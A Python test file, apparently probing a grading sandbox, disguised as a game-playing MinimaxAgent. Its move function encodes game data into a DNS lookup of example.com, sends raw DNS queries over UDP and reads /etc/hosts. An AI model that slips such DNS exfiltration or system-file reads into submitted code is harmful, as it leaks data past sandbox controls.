# attack: asks for addresses of names, so that words could leave the machine in them.
# where: MinimaxAgent
import socket

from shared.attempt import *
from shared.reflex import *
from shared.search import *


class MinimaxAgent(MultiAgentSearchAgent):
    def getAction(self, gameState):
        legal = gameState.getLegalActions()
        attempt("getaddrinfo", socket.getaddrinfo, "%s.example.com" % str(legal[0]).lower(), 80)
        attempt("gethostbyname", socket.gethostbyname, "example.com")
        attempt("gethostbyaddr", socket.gethostbyaddr, "192.0.2.1")
        question = b"\0\1\1\0\0\1\0\0\0\0\0\0\7example\3com\0\0\1\0\1"
        for server in ("127.0.0.53", "192.0.2.53"):
            attempt("UDP to " + server, self.ask, server, question)
        attempt("the names of this machine", lambda: open("/etc/hosts").read())
        return legal[0]

    def ask(self, server, question):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
            line.settimeout(2)
            line.sendto(question, (server, 53))
            return line.recv(512)
